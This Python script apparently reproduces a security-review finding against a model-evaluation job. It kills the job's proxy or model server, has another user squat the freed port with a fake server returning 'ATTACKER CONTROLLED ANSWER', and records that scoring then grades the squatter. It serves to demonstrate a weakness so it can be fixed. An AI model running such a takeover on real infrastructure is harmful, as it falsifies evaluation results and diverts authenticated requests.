#!/usr/bin/env python3
"""A harness that stages review F1's takeover from inside the job (standard library only).

    takeover_harness.py --output DIR --task NAME --endpoint URL --model ID --requests N
                        --after K --kill proxy|server [--server-match TEXT]

It sends N chat requests. After K of them it kills (SIGKILL) the in-job proxy (its pid from
the job's proxy.ready) or the model server (the process whose command line holds
--server-match), and has another uid (`runuser -u nobody`) bind the freed port with a squatter
that answers every request with "ATTACKER CONTROLLED ANSWER" and /health with 200. Then it goes
on asking the same URL, as a harness does, prints every answer and writes an lm-eval style
results file: a job that scores it has scored the squatter.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

SQUATTER = r"""
import json, socket, sys, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
port = int(sys.argv[1])
class H(BaseHTTPRequestHandler):
    def _send(self, body):
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def do_GET(self):
        self._send({"status": "ok", "data": [{"id": "m"}]})
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._send({"id": "x", "object": "chat.completion", "model": "m", "choices": [
            {"index": 0, "finish_reason": "stop",
             "message": {"role": "assistant", "content": "ATTACKER CONTROLLED ANSWER"}}]})
    def log_message(self, *args):
        pass
deadline = time.time() + 30
while True:
    try:
        server = ThreadingHTTPServer(("127.0.0.1", port), H)
        break
    except OSError:
        if time.time() > deadline:
            sys.exit(1)
        time.sleep(0.02)
server.timeout = 1
end = time.time() + 60
while time.time() < end:
    server.handle_request()
"""


def auth() -> dict[str, str]:
    """The key the in-job proxy asks for: the job gives it as OPENAI_API_KEY (never argv)."""
    key = os.environ.get("OPENAI_API_KEY")
    return {"Authorization": f"Bearer {key}"} if key else {}


def ask(endpoint: str, model: str, prompt: str) -> str:
    body = json.dumps({"model": model, "messages": [{"role": "user", "content": prompt}],
                       "max_tokens": 16, "temperature": 0}).encode("utf-8")
    request = urllib.request.Request(endpoint, data=body,
                                     headers={"Content-Type": "application/json", **auth()})
    with urllib.request.urlopen(request, timeout=30) as response:
        reply = json.loads(response.read())
    return str(reply["choices"][0]["message"]["content"])


def server_pid_and_port(match: str) -> tuple[int, int]:
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            argv = (proc / "cmdline").read_bytes().split(b"\0")
            environ = (proc / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if any(match.encode() in a for a in argv) and b"oracle_server" in b" ".join(argv):
            port = next(int(e[5:]) for e in environ if e.startswith(b"PORT="))
            return int(proc.name), port
    raise SystemExit(f"takeover_harness: no server process matching {match!r}")


def take_over(target: str, endpoint: str, match: str) -> None:
    if target == "proxy":
        model_dir = Path(os.environ["HPCEVAL_TASK_DIR"]).parents[1]
        pid = int((model_dir / "proxy.ready").read_text())
        port = urlsplit(endpoint).port or 80
    else:
        pid, port = server_pid_and_port(match)
    os.kill(pid, signal.SIGKILL)
    subprocess.Popen(["runuser", "-u", "nobody", "--", "/usr/bin/python3", "-c", SQUATTER,
                      str(port)], stdin=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 20
    while time.time() < deadline:  # the squatter answers on the port now
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                break
        except OSError:
            time.sleep(0.02)
    print(f"takeover_harness: killed the {target} (pid {pid}); nobody listens on {port}",
          flush=True)


def main() -> int:
    p = argparse.ArgumentParser()
    for flag in ("--output", "--task", "--endpoint", "--model", "--kill"):
        p.add_argument(flag, required=True)
    p.add_argument("--requests", type=int, default=6)
    p.add_argument("--after", type=int, default=2)
    p.add_argument("--server-match", default="")
    args = p.parse_args()
    answers = []
    for i in range(args.requests):
        if i == args.after:
            take_over(args.kill, args.endpoint, args.server_match)
        try:
            answers.append(ask(args.endpoint, args.model, f"{args.task}: question {i}"))
        except (OSError, ValueError, KeyError, urllib.error.URLError) as exc:
            print(f"takeover_harness: request {i + 1} failed: {exc}", flush=True)
            return 1
        print(f"takeover_harness: answer {i + 1}: {answers[-1]}", flush=True)
    out = Path(args.output)
    out.mkdir(parents=True, exist_ok=True)
    attacker = sum("ATTACKER" in a for a in answers)
    (out / "results_0.json").write_text(json.dumps({"results": {args.task: {
        "answered,none": 1.0, "attacker,none": attacker / len(answers)}}}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
